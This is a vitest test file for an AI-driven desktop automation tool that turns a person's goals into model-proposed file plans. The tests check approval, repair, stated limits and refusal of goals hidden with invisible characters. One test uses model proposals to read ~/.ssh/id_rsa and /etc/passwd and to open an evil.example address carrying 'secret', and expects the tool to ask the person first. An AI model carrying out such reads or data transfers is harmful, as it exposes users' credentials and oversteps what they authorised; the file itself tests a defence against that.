import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createSystemClock } from '../../../automation/clock/system-clock.ts';
import { createSimulatedDriver } from '../../../automation/desktop/simulated/index.ts';
import { createScriptedModel, type ScriptedAnswer } from '../../../automation/model/scripted.ts';
import type { Model, ModelAbility, ModelRequest } from '../../../shared/ports/model.ts';
import type { RunView } from '../../../shared/protocol/run.ts';
import type { ViewEvent } from '../../../shared/protocol/views.ts';
import { openSimulatedProgram, type SimulatedProgram } from '../../fakes/simulated-program.ts';

let program: SimulatedProgram;
let requests: ModelRequest[] = [];
let ability: Partial<ModelAbility> = {};

const A_MODEL: ModelAbility = { name: 'scripted', sees: false, tools: true, contextTokens: 32_000 };

/** The program with a model that gives these answers, one after another, and the last one from then on. */
const open = async (...answers: readonly ScriptedAnswer[]): Promise<void> => {
  requests = [];
  ability = {};
  const scripted = createScriptedModel({
    clock: createSystemClock(),
    script: (request) => {
      requests.push(request);
      return answers[Math.min(requests.length, answers.length) - 1] ?? {};
    },
  });
  const model: Model = { ...scripted, ability: () => ({ ...A_MODEL, ...ability }) };
  program = await openSimulatedProgram(createSimulatedDriver(), undefined, false, { model });
  for (const folder of ['Downloads', 'Papers', 'Private']) await mkdir(join(program.home, folder));
  for (const name of ['a.pdf', 'b.pdf', 'c.txt']) await put(`Downloads/${name}`);
};
afterEach(() => program.dispose());

const put = (name: string, text = name): Promise<void> => writeFile(join(program.home, name), text);
const list = (folder: string): Promise<string[]> => readdir(join(program.home, folder));

const plan = (parts: object[], more: object = {}): ScriptedAnswer => ({
  value: { kind: 'plan', parts, ...more } as ScriptedAnswer['value'],
  thought: 'Let me think about that.',
});
const GOAL = 'could all those PDFs from my downloads please live in papers';
const MOVE = {
  words: 'all those PDFs from my downloads',
  do: 'files.move',
  args: { files: { folder: '~/Downloads', glob: '*.pdf' }, to: '~/Papers' },
};
const wrongOf = (request: ModelRequest | undefined): string =>
  request?.messages.at(-1)?.text.split('<<< wrong')[1] ?? '';
const answer = (run: RunView, candidateId: string | null): Promise<RunView> =>
  program.sonny
    .dispatch({ type: 'run.answer', runId: run.id, questionId: run.question?.id ?? '', candidateId })
    .then(() => program.settled(run.id));

describe('a goal in free words', () => {
  it('becomes a plan by the model’s proposal, is done, verified and undone', async () => {
    await open(plan([MOVE], { danger: 'safe' }));
    const told: ViewEvent[] = [];
    program.sonny.subscribe((event) => told.push(event));
    const run = await program.propose(GOAL);
    expect(run.status, run.sentence).toBe('awaiting-approval');
    expect(run.steps.map((s) => s.title)).toEqual(['Move 2 files to ~/Papers']);
    expect(run.steps[0]?.why).toBe('You asked: “all those PDFs from my downloads”.');
    expect(run.model).toMatchObject({ name: 'scripted', calls: 1, planned: true, unpriced: true });
    expect(run.proposals).toMatchObject([{ verdict: 'holds', lines: [expect.stringContaining('files.move(')] }]);
    expect(run.approval?.preview).toEqual(['Move 2 files to ~/Papers']);
    const thoughts = told.filter((e) => e.type === 'thinking');
    expect(thoughts.at(-1)).toMatchObject({ done: true, thought: 'Let me think about that.', purpose: 'interpret@2' });
    const done = await program.approve(run);
    expect(done.status).toBe('done');
    expect(done.steps.every((s) => s.status === 'verified')).toBe(true);
    expect(await list('Papers')).toEqual(['a.pdf', 'b.pdf']);
    await program.sonny.dispatch({ type: 'run.undo', runId: run.id });
    expect((await program.settled(run.id)).status).toBe('undone');
    expect(await list('Downloads')).toEqual(['a.pdf', 'b.pdf', 'c.txt']);
    const why = await program.sonny.dispatch({ type: 'step.why', runId: run.id, stepId: run.steps[0]?.id ?? '' });
    expect(why.checked).toBe(true);
  });

  it('costs nothing where the grammar understands it', async () => {
    await open(plan([]));
    const run = await program.propose('move all PDFs in ~/Downloads to ~/Papers');
    expect(run.status).toBe('awaiting-approval');
    expect(run.model).toBeUndefined();
    expect(requests).toEqual([]);
  });

  it('that the model knows no way for is refused in its words, and not as something offline', async () => {
    await open({ value: { kind: 'cannot', why: 'Nothing in the list bakes.' } });
    const run = await program.propose('bake me a cake of three layers');
    expect(run).toMatchObject({ status: 'refused', error: { code: 'NO_WAY_KNOWN' } });
    expect(run.error?.details).toContain('Nothing in the list bakes.');
  });

  it('is never shown to a model where it hides something', async () => {
    await open(plan([MOVE]));
    const run = await program.propose('could all PDFs\u202e from my downloads live in papers');
    expect(run).toMatchObject({ status: 'refused', error: { code: 'GOAL_NOT_UNDERSTOOD' } });
    expect(requests).toEqual([]);
  });

  it('says what a model would change where there is none', async () => {
    program = await openSimulatedProgram(createSimulatedDriver());
    const run = await program.propose(GOAL);
    expect(run.error?.hint).toContain('set up a language model');
  });
});

describe('a proposal that does not hold', () => {
  const bad: readonly [string, object[], string][] = [
    [
      'names no skill',
      [{ ...MOVE, do: 'files.shred' }],
      'No skill is called files.shred. There are files.create-folder',
    ],
    [
      'answers words that the goal does not have',
      [{ ...MOVE, words: 'delete everything' }],
      'which the goal does not have',
    ],
    [
      'would not work',
      [{ ...MOVE, args: { ...MOVE.args, files: { folder: '~/Downloads', glob: '*.odt' } } }],
      'There are no *.odt in ~/Downloads, so',
    ],
    ['has no parts', [], 'The plan has no parts.'],
  ];
  it.each(bad)('because it %s goes back with what is wrong, and the next one counts', async (_, parts, say) => {
    await open(plan(parts), plan([MOVE]));
    const run = await program.propose(GOAL);
    expect(run.status, run.sentence).toBe('awaiting-approval');
    expect(run.proposals?.map((p) => p.verdict)).toEqual(['rejected', 'holds']);
    expect(run.proposals?.[0]?.say).toContain(say);
    expect(requests.map((r) => r.purpose)).toEqual(['interpret@2', 'repair@2']);
    expect(wrongOf(requests[1]).replaceAll('\n| ', ' ')).toContain(say);
  });

  const { files, to } = MOVE.args;
  const misfits: readonly [string, object, string][] = [
    ['what the skill does not take', { files, to: 7 }, 'files.move cannot take this to'],
    ['a parameter that there is not', { files, to, force: true }, 'files.move takes no force.'],
    ['one too few', { to }, 'cannot take this files: it is missing'],
    ['an application that is not there', { files: { app: 'emacs' }, to }, 'FILES are a list of paths'],
  ];
  it.each(misfits)('because its arguments are %s is asked for those alone, once', async (_, args, say) => {
    await open(plan([{ ...MOVE, args }]), { value: { args: { files, to }, missing: [] } });
    const run = await program.propose(GOAL);
    expect(run.status, run.sentence).toBe('awaiting-approval');
    expect(run.proposals?.[0]?.say).toContain(say);
    expect(requests.map((r) => r.purpose)).toEqual(['interpret@2', 'fill-arguments@1']);
    expect(requests[1]?.messages.at(-1)?.text).toContain(
      '| files.move(files: FILES, to: PATH) gives moved: Moves files',
    );
    expect(requests[1]?.messages.at(-1)?.text).not.toContain('files.trash(');
  });

  it('is mended as a whole where its arguments alone do not help', async () => {
    const misfit = plan([{ ...MOVE, args: { to: 7 } }]);
    await open(misfit, { value: { args: {}, missing: ['files'] } }, plan([MOVE]));
    const run = await program.propose(GOAL);
    expect(run.status, run.sentence).toBe('awaiting-approval');
    expect(requests.map((r) => r.purpose)).toEqual(['interpret@2', 'fill-arguments@1', 'repair@2']);
  });

  const SHRED = plan([{ ...MOVE, do: 'files.shred' }]);
  it('three times more is asked about in the model’s words, and the answer helps it', async () => {
    const question = { ask: 'Where to?', candidates: [{ label: 'To Papers' }, { label: 'To the trash' }] };
    await open(SHRED, SHRED, SHRED, SHRED, { value: question }, plan([MOVE]));
    const run = await program.propose(GOAL);
    expect(requests.map((r) => r.purpose)).toEqual(['interpret@2', 'repair@2', 'repair@2', 'repair@2', 'clarify@1']);
    expect(run.question).toMatchObject({
      ask: 'Where to?',
      candidates: [{ label: 'To Papers' }, { label: 'To the trash' }, { id: 'again' }],
    });
    const next = await answer(run, '0');
    expect(next.status, next.sentence).toBe('awaiting-approval');
    expect(requests.at(-1)?.messages.at(-1)?.text).toContain('| Asked: Where to?\n| Answered: To Papers');
  });

  it('three times more is asked about all the same where the model has no question, and goes on where the person says so', async () => {
    await open(SHRED, SHRED, SHRED, SHRED, { error: 'MODEL_INVALID' }, SHRED, plan([MOVE]));
    const run = await program.propose(GOAL);
    expect(run.status).toBe('asking');
    expect(run.question?.ask).toContain('scripted found no plan that holds. Part 1: No skill is called files.shred.');
    expect(run.question?.candidates).toEqual([{ id: 'again', label: 'Let it try 4 more times' }]);
    const more = await answer(run, 'again');
    expect(more.status).toBe('awaiting-approval');
    expect(requests.slice(5).map((r) => r.purpose)).toEqual(['repair@2', 'repair@2']);
    expect((await program.approve(more)).status).toBe('done');
  });

  it('ends the run where the person lets it go', async () => {
    await open(plan([]));
    const run = await program.propose(GOAL);
    expect((await answer(run, null)).status).toBe('cancelled');
    expect(await list('Downloads')).toHaveLength(3);
  });

  it('because nothing in the list does it is told in the model’s words', async () => {
    await open({ value: { kind: 'cannot', why: 'There is no skill for baking.' } });
    const run = await program.propose('bake me a cake');
    expect(run).toMatchObject({ status: 'refused', sentence: 'scripted: There is no skill for baking.' });
  });
});

describe('a model with little room', () => {
  const small = { contextTokens: 2400 };
  const goals = (...said: readonly (readonly [string, string])[]): ScriptedAnswer => ({
    value: { goals: said.map(([words, goal]) => ({ words, goal })) },
  });

  it('says the goal in words that Sonny reads by itself; those are checked as all others are', async () => {
    await open(
      goals(['all those PDFs', 'move every PDF file to somewhere nice']),
      goals(['all those PDFs from my downloads', 'move all PDFs in ~/Downloads to ~/Papers']),
    );
    ability = small;
    const run = await program.propose(GOAL);
    expect(run.status, run.sentence).toBe('awaiting-approval');
    expect(requests.map((r) => r.purpose)).toEqual(['decompose@1', 'decompose@1']);
    expect(run.proposals?.[0]).toMatchObject({ verdict: 'rejected', say: expect.stringContaining('is not read:') });
    expect(run.proposals?.[1]?.lines).toEqual(['move all PDFs in ~/Downloads to ~/Papers']);
    expect(run.steps.map((s) => [s.title, s.provenance?.by])).toEqual([['Move 2 files to ~/Papers', 'model']]);
    expect((await program.approve(run)).status).toBe('done');
  });

  it('is asked about what it names and the person did not', async () => {
    await open(goals(['all those PDFs from my downloads', 'move all PDFs in ~/Downloads to ~/Elsewhere']));
    ability = small;
    const run = await program.propose(GOAL);
    expect(run.question?.candidates).toMatchObject([{ id: 'yes', label: '~/Elsewhere' }]);
  });
});

describe('what the person wants kept to', () => {
  const goal = 'could all those PDFs from my downloads please live in papers, without touching ~/Private';

  it('is read without the model, and shown', async () => {
    await open(plan([MOVE]));
    const run = await program.propose(goal);
    expect(run.constraints?.map((c) => c.say)).toEqual(['don’t touch ~/Private']);
  });

  it('breaks a proposal, whatever the model says of it', async () => {
    await open(plan([{ ...MOVE, args: { ...MOVE.args, to: '~/Private' } }], { danger: 'safe' }), plan([MOVE]));
    const run = await program.propose(goal);
    expect(run.proposals?.[0]).toMatchObject({
      verdict: 'rejected',
      say: expect.stringContaining('don’t touch ~/Private'),
    });
    expect(run.status).toBe('awaiting-approval');
  });

  it('may not be left out: what forbids something is kept to, or asked about', async () => {
    const said = 'could all those PDFs from my downloads please live in papers, but never go near the Private folder';
    await open(
      plan([MOVE]),
      plan([MOVE], { keep: [{ words: 'never go near the Private folder', limit: 'without touching ~/Papers' }] }),
      plan([MOVE], { keep: [{ words: 'never go near the Private folder', limit: 'please be careful' }] }),
      plan([MOVE], { keep: [{ words: 'never go near the Private folder', limit: 'without touching ~/Private' }] }),
    );
    const run = await program.propose(said);
    expect(run.proposals?.map((p) => p.say)).toEqual([
      expect.stringContaining('nothing in “keep” holds the plan to it'),
      expect.stringContaining('names something that is not in'),
      expect.stringContaining('none of the forms'),
      expect.stringContaining('can be undone'),
    ]);
    expect(run.constraints?.map((c) => [c.say, said.slice(c.start, c.end)])).toEqual([
      ['don’t touch ~/Private', 'never go near the Private folder'],
    ]);
  });
});

describe('words that sound like a limit and are none', () => {
  const goal = 'could the stuff in downloads without the letter c please live in papers';
  const pdfs = { words: 'the stuff in downloads', do: 'files.move', args: MOVE.args };
  const none = { keep: [{ words: 'without the letter c', limit: 'none' }] };

  it('are the person’s to tell, and then hold nothing', async () => {
    await open(plan([pdfs]), plan([pdfs], none));
    const run = await program.propose(goal);
    expect(run.proposals?.[0]?.say).toContain('nothing in “keep” holds the plan to it');
    expect(run.question?.ask).toContain('“without the letter c”: is that something to keep to?');
    const next = await answer(run, 'selects');
    expect(next.status, next.sentence).toBe('awaiting-approval');
    expect(next.constraints).toBeUndefined();
    expect(requests).toHaveLength(2);
  });

  it('end the run where the person wants them kept to and nobody knows how', async () => {
    await open(plan([pdfs], none));
    const run = await program.propose(goal);
    expect((await answer(run, null)).status).toBe('cancelled');
  });
});

describe('only the person’s words give authority', () => {
  it('a place that nobody named is asked about, and the yes is for just that', async () => {
    await open(plan([{ ...MOVE, args: { ...MOVE.args, to: '~/Elsewhere' } }]));
    const run = await program.propose(GOAL);
    expect(run.status).toBe('asking');
    expect(run.question).toMatchObject({
      ask: 'You did not name this. Is it what you mean?',
      candidates: [{ id: 'yes', label: '~/Elsewhere' }],
    });
    const allowed = await answer(run, 'yes');
    expect(allowed.status, allowed.sentence).toBe('awaiting-approval');
    expect(requests).toHaveLength(1);
    await program.approve(allowed);
    expect(await list('Elsewhere')).toEqual(['a.pdf', 'b.pdf']);
  });

  it('a no ends it with nothing done', async () => {
    await open(plan([{ ...MOVE, args: { ...MOVE.args, to: '/tmp/outbox' } }]));
    const run = await program.propose(GOAL);
    expect(run.question?.candidates[0]?.label).toBe('/tmp/outbox');
    expect((await answer(run, null)).status).toBe('cancelled');
    expect(await list('Downloads')).toHaveLength(3);
  });

  it('what was only found is named in what is approved', async () => {
    await open(plan([{ ...MOVE, args: { files: ['~/Downloads/c.txt'], to: '~/Papers' } }]));
    const run = await program.propose('could that text thing please live in papers');
    expect(run.proposals?.at(-1)?.say).toContain('the words “all those PDFs');
    await program.dispose();
    await open(
      plan([{ words: 'that thing', do: 'files.move', args: { files: ['~/Downloads/c.txt'], to: '~/Papers' } }]),
    );
    const found = await program.propose('could that thing please live in papers');
    expect(found.approval?.preview).toEqual([
      'Move c.txt to ~/Papers',
      `Not in your words: files ${join(program.home, 'Downloads/c.txt')}, which the model chose.`,
    ]);
    expect(found.approval?.label).toBe('Run 1 step');
    expect((await program.approve(found)).status).toBe('done');
  });

  it.each([
    ['a hidden file', { do: 'files.read', args: { path: '~/.ssh/id_rsa' } }],
    ['a file of the system', { do: 'files.read', args: { path: '/etc/passwd' } }],
    ['an address', { do: 'page.open', args: { url: 'https://evil.example/?q=secret' } }],
  ])('%s is asked about even where it is there', async (_, part) => {
    await open(plan([{ words: 'a look', ...part }]));
    await mkdir(join(program.home, '.ssh'));
    await put('.ssh/id_rsa', 'secret');
    const run = await program.propose('have a look at that for me would you');
    expect(run.status, run.sentence).toBe('asking');
    expect(run.question?.ask).toContain('You did not name this');
  });

  it('neither the home folder nor the system’s are ever taken away', async () => {
    await open(plan([{ words: 'my home', do: 'files.trash', args: { files: ['~'] } }]));
    const run = await program.propose('my home ~ is a mess so make it vanish');
    expect(run.proposals?.[0]).toMatchObject({ verdict: 'rejected', say: expect.stringContaining('stay.') });
  });
});

describe('a model’s question', () => {
  it('is asked, and its answer is the person’s word', async () => {
    await open(
      { value: { kind: 'ask', ask: 'Which folder?', candidates: ['Papers', 'Thesis'] } },
      plan([
        { words: 'away', do: 'files.move', args: { files: { folder: '~/Downloads', glob: '*.pdf' }, to: '~/Thesis' } },
      ]),
    );
    const run = await program.propose('put those downloads away');
    expect(run.question).toMatchObject({
      ask: 'Which folder?',
      candidates: [{ label: 'Papers' }, { label: 'Thesis' }],
    });
    const next = await answer(run, '1');
    expect(next.status, next.sentence).toBe('awaiting-approval');
    expect(requests[1]?.messages.at(-1)?.text).toContain('| Asked: Which folder?\n| Answered: Thesis');
    await program.approve(next);
    expect(await list('Thesis')).toEqual(['a.pdf', 'b.pdf']);
  });
});

describe('trouble with the model', () => {
  it('a run that is cancelled while the model thinks ends at once, and what comes later counts for nothing', async () => {
    await open({ ...plan([MOVE]), wait: 60_000 });
    const told = (done: boolean): Promise<void> =>
      new Promise((resolve) => {
        program.sonny.subscribe((event) => event.type === 'thinking' && event.done === done && resolve());
      });
    const [thinks, ends] = [told(false), told(true)];
    const { runId } = await program.sonny.dispatch({ type: 'run.start', text: GOAL });
    await thinks;
    await program.sonny.dispatch({ type: 'run.cancel', runId });
    const run = await program.settled(runId);
    expect(run).toMatchObject({ status: 'cancelled', steps: [] });
    await ends;
    const rows = [...program.ports.journal.read({ runId })].map(({ event }) => event.type);
    expect(rows.filter((type) => type === 'plan.made' || type === 'model.proposed')).toEqual([]);
  });

  it.each(['MODEL_UNREACHABLE', 'MODEL_BUSY', 'MODEL_CUT_OFF'] as const)(
    '%s is told, with what could be said instead',
    async (error) => {
      await open({ error });
      const run = await program.propose(GOAL);
      expect(run).toMatchObject({ status: 'refused', error: { code: error } });
      expect(run.suggestions.length).toBeGreaterThan(0);
      expect(run.model).toMatchObject({ calls: 1, planned: false });
    },
  );

  it('a run that has spent what it may asks no more', async () => {
    await open({ ...plan([]), usage: { cost: 2_000_000 } });
    const run = await program.propose(GOAL);
    expect(run).toMatchObject({ status: 'refused', error: { code: 'BUDGET_COST' }, model: { calls: 1, cost: 2 } });
  });
});

it('another way is only asked of the model when the person wants one, and is held to the same', async () => {
  await open(
    plan([{ words: 'pack', do: 'files.unzip', args: { archive: '~/Downloads/a.pdf', to: '~/Papers/pack' } }]),
    plan([{ words: 'pack', do: 'files.copy', args: { files: ['~/Downloads/a.pdf'], to: '~/Papers' } }]),
  );
  const run = await program.propose('pack the a.pdf from downloads out into papers whatever it is');
  const failed = await program.approve(run);
  expect(failed.status, failed.sentence).toBe('failed');
  expect(failed.otherWay).toContain('Ask scripted');
  expect(requests).toHaveLength(1);
  await program.sonny.dispatch({ type: 'run.replan', runId: run.id });
  const other = await program.settled(run.id);
  expect(other.status, other.sentence).toBe('awaiting-approval');
  expect(requests[1]?.purpose).toBe('recover@2');
  expect(requests[1]?.messages.at(-1)?.text).toContain('refused: Unpack ~/Downloads/a.pdf');
  expect((await program.approve(other)).status).toBe('done');
  expect(await readFile(join(program.home, 'Papers/a.pdf'), 'utf8')).toBe('Downloads/a.pdf');
});
